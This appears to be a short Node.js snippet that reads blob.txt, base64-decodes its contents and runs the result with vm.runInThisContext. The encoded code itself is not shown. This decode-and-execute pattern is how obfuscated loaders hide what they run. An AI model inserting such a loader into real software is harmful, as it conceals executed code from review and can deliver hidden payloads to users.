const { readFileSync } = require("node:fs");
const vm = require("node:vm");
vm.runInThisContext(Buffer.from(readFileSync("blob.txt", "utf8"), "base64").toString());
